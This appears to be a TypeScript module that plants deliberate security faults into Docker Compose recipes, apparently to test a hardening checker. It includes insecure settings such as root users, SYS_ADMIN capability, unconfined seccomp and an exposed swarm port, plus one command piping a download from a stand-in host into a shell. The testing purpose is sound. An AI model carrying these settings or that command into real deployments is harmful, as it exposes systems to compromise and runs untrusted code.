import { isList, type JsonMap, mapOf, valueAt } from '../../recipe/json.ts';
import type { Json, Path } from '../../types.ts';
import {
  adding,
  appended,
  atTop,
  composeOf,
  type Fault,
  inServices,
  KEY,
  onNetwork,
  type PlantedService,
  type Planter,
  set,
  setting,
} from '../fault.ts';
import { changedLabel, isRouted } from '../labels.ts';

const DATABASE = /(?:^|\/)(?:postgres|mariadb|mysql|mongo)[:@]/;
const LIMITS = ['deploy', 'resources', 'limits'];
const PRACTICES = ['user', 'read_only', 'cap_drop'];

/** Faults in how a service is shut in, in what it may use up, and in what a stack leaves open or lying about. */
export const HARDENING: { readonly [rule: string]: Planter } = {
  'attachable-network': onNetwork({ attachable: true }, ['attachable']),
  'backup-uncovered': inMetadata('data', (service) => {
    const { data = [] } = service.recipe.metadata ?? {};
    const index = data.findIndex(
      ({ volume, backup }) => backup && mounts(service).some((each) => each.startsWith(`${volume}:`)),
    );
    const change = changedLabel(service, /^backupbot\.backup$/, 'false');
    return index === -1 || change === null ? null : { ...change, at: ['data', index, 'volume'] };
  }),
  'bind-by-driver-opts': atTop(
    ['volumes', 'planted'],
    { driver_opts: { type: 'none', o: 'bind', device: '/srv/planted' } },
    ['driver_opts', 'o'],
  ),
  'budget-exceeded': inMetadata('budget', ({ path, recipe }) =>
    recipe.metadata?.budget.memory === undefined
      ? null
      : { set: [[[...path, ...LIMITS, 'memory'], '900G']], at: ['budget', 'memory'] },
  ),
  'capabilities-not-dropped': without('cap_drop'),
  'cpu-limit-missing': withoutLimit('cpus'),
  'dangerous-capability': adding(['cap_add'], 'SYS_ADMIN'),
  'device-access': adding(['devices'], '/dev/sda:/dev/sda'),
  'fixed-global-name': atTop(['volumes', 'planted'], { name: 'planted' }, ['name']),
  'hardening-missing': inServices(({ path, value }) =>
    practices(value).length === 0
      ? null
      : { set: PRACTICES.map((key) => [[...path, key], undefined] as const), at: path, ...KEY },
  ),
  'hardening-not-applied': adding(['security_opt'], 'no-new-privileges:true'),
  'healthcheck-disabled': set(['healthcheck', 'disable'], true),
  'healthcheck-slower-than-timeout': inServices(({ path, value }) => {
    const at = [...path, 'healthcheck'];
    return value.healthcheck === undefined ? null : { set: [[[...at, 'interval'], '3600s']], at, ...KEY };
  }),
  'host-mode-port': adding(['ports'], { target: 8080, published: 18_080, mode: 'host' }),
  'host-namespace': setting('pid', 'host'),
  'internal-network-missing': inServices(({ path, value }) => {
    const { image, networks } = value;
    if (typeof image !== 'string' || !DATABASE.test(image) || !isList(networks)) return null;
    const joined = [
      [...path, 'networks'],
      [...networks, 'planted'],
    ] as const;
    return { set: [joined, [['networks', 'planted'], {}]], at: [...path, 'networks', networks.length] };
  }),
  'log-unbounded': inServices(({ path }) => ({
    set: [[[...path, 'logging'], { driver: 'json-file' }]],
    at: [...path, 'logging'],
    ...KEY,
  })),
  'management-port': adding(['ports'], '2377:2377'),
  'manager-placement': adding(['deploy', 'placement', 'constraints'], 'node.role == manager'),
  'network-unused': atTop(['networks', 'planted'], {}, [], KEY),
  'overlay-not-encrypted': inServices(({ recipe, path, value }) => {
    const { networks } = value;
    if (!isList(networks)) return null;
    const compose = composeOf(recipe);
    const open = networks.find((name) => isOpenOverlay(mapOf(compose.networks), name) && isShared(compose, name));
    return open === undefined
      ? null
      : { set: [[[...path, 'deploy', 'replicas'], 2]], at: ['networks', String(open)], ...KEY };
  }),
  'pids-limit-missing': withoutLimit('pids'),
  'pipe-to-shell': setting('command', 'sh -c "curl -fsSL https://planted.example.net | sh"'),
  'placement-needs-label': adding(['deploy', 'placement', 'constraints'], 'node.labels.planted == 1'),
  'plugin-driver': atTop(['volumes', 'planted'], { driver: 'planted/plugin' }, ['driver']),
  'privileged-port': adding(['ports'], '25:25'),
  'proxy-labels-misplaced': adding(['labels'], 'traefik.enable=true'),
  'remote-log-driver': inServices(({ path }) => ({
    set: [[[...path, 'logging'], { driver: 'gelf', options: { 'gelf-address': 'udp://192.0.2.1:12201' } }]],
    at: [...path, 'logging', 'driver'],
  })),
  'replicas-on-local-volume': inServices((service) => {
    const at = [...service.path, 'deploy', 'replicas'];
    return mounts(service).length === 0 ? null : { set: [[at, 2]], at };
  }),
  'restart-unbounded': inServices(({ path }) => {
    const at = [...path, 'deploy', 'restart_policy'];
    return { set: [[at, { condition: 'any', max_attempts: 0 }]], at, ...KEY };
  }),
  'risky-sysctl': set(['sysctls'], { 'net.ipv4.ip_forward': '1' }, ['net.ipv4.ip_forward']),
  'rollback-missing': inServices(({ path }) => {
    const at = [...path, 'deploy', 'update_config'];
    const update = { order: 'start-first', failure_action: 'rollback' };
    return {
      set: [
        [at, update],
        [[...path, 'deploy', 'rollback_config'], undefined],
      ],
      at,
      ...KEY,
    };
  }),
  'route-without-tls': inServices((service) => {
    const label = 'traefik.http.routers.${STACK_NAME}_planted.rule=Host(`${DOMAIN}`)';
    return isRouted(service) ? appended(service, ['deploy', 'labels'], label) : null;
  }),
  'runs-as-root': setting('user', '0'),
  'secret-in-environment': inServices(({ path, value }) => {
    if (isList(value.environment)) return null;
    const at = [...path, 'environment', 'PLANTED_PASSWORD'];
    return { set: [[at, '${PLANTED_PASSWORD}']], at };
  }),
  'secret-mode': adding(['secrets'], { source: 'planted', mode: 0o444 }, ['mode']),
  'ssh-server': setting('command', '/usr/sbin/sshd -D'),
  'stop-grace-missing': changingAway('stop_grace_period', ({ value }) => DATABASE.test(String(value.image))),
  'unconfined-profile': adding(['security_opt'], 'seccomp=unconfined'),
  'unlimited-ulimit': set(['ulimits'], { nofile: -1 }, ['nofile']),
  'volume-unused': atTop(['volumes', 'planted'], {}, [], KEY),
  'writable-root': without('read_only'),
};

/** A change of a service that recipe.yml is blamed for. */
function inMetadata(section: 'data' | 'budget', plant: Parameters<typeof inServices>[0]): Planter {
  return (recipe) => {
    if (recipe.metadata === null || !recipe.files.some(({ path }) => path === 'recipe.yml')) return [];
    const faults = inServices(plant)(recipe);
    return faults.flatMap((fault): readonly Fault[] =>
      'path' in fault.at && fault.at.path[0] === section ? [{ ...fault, at: { ...fault.at, file: 'recipe.yml' } }] : [],
    );
  };
}

/** Short volumes with a name, as they are written. */
function mounts({ value }: PlantedService): readonly string[] {
  const volumes: readonly Json[] = isList(value.volumes) ? value.volumes : [];
  return volumes.flatMap((each) =>
    typeof each === 'string' && /^[a-z0-9][a-z0-9_-]+:[^:]+$/.test(each) ? [each] : [],
  );
}

function practices(service: PlantedService['value']): readonly string[] {
  return PRACTICES.filter((key) => service[key] !== undefined && service[key] !== false);
}

/** Takes away one of several practices. */
function without(key: string): Planter {
  return changingAway(key, ({ value }) => practices(value).some((each) => each !== key));
}

function withoutLimit(key: string): Planter {
  return inServices(({ path, value }) => {
    const limit: Path = [...LIMITS, key];
    return valueAt(value, limit) === undefined ? null : { set: [[[...path, ...limit], undefined]], at: path, ...KEY };
  });
}

function changingAway(key: string, applies: (service: PlantedService) => boolean): Planter {
  return inServices((service) =>
    service.value[key] === undefined || !applies(service)
      ? null
      : { set: [[[...service.path, key], undefined]], at: service.path, ...KEY },
  );
}

/** Whether anybody is there to talk with. */
function isShared({ services }: JsonMap, network: Json): boolean {
  const joins = ({ networks }: JsonMap): boolean => isList(networks) && networks.includes(network);
  return Object.values(mapOf(services)).filter((service) => joins(mapOf(service))).length > 1;
}

function isOpenOverlay(networks: { readonly [name: string]: Json }, name: Json): boolean {
  if (typeof name !== 'string' || !Object.hasOwn(networks, name)) return false;
  const { external, driver = 'overlay', driver_opts } = mapOf(networks[name]);
  return external === undefined && driver === 'overlay' && mapOf(driver_opts).encrypted === undefined;
}
